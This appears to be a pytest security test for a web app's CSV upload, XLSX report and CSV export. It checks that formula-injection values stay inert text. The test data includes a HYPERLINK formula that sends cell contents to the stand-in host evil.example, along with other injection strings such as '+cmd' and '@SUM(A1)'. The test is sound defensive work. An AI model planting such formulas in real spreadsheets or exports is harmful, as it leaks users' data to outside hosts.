"""A formula typed into a cell stays text in the XLSX report and in the CSV export."""

import csv
import io

from openpyxl import load_workbook

from tests.security.conftest import upload

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
HEADER = ["类别", "姓名", "人员编号 (person_id)", "年龄", "脱离监护单独居住"]


def _csv(rows) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, *rows])
    return buffer.getvalue().encode()


def test_formulas_in_cells_are_text_in_reports_and_exports(app_client):
    rows = [
        ["儿童", "=1+2", FORMULA, "10", "是"],
        ["儿童", "@SUM(A1)", "+cmd", "9", "是"],
        ["儿童", "-2", "-3", "8", "否"],
    ]
    response = upload(app_client, _csv(rows), "people.csv")
    assert response.status_code == 200, response.text
    review = response.json()["review"]["id"]
    assert response.json()["review"]["scored"] == 3

    report = app_client.get(f"/v1/reviews/{review}/report.xlsx").content
    book = load_workbook(io.BytesIO(report))
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
    assert any(c.value == FORMULA for c in texts)
    assert all(c.data_type == "s" for c in texts)  # a string cell, never a formula ("f")
    assert not [c for c in cells if c.data_type == "f"]

    exported = app_client.get(f"/v1/reviews/{review}/records.csv")
    assert exported.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))))
    assert [r["person_id"] for r in table] == ["'" + FORMULA, "'+cmd", "'-3"]
    for row in table:
        assert not row["person_id"].startswith(("=", "+", "-", "@"))
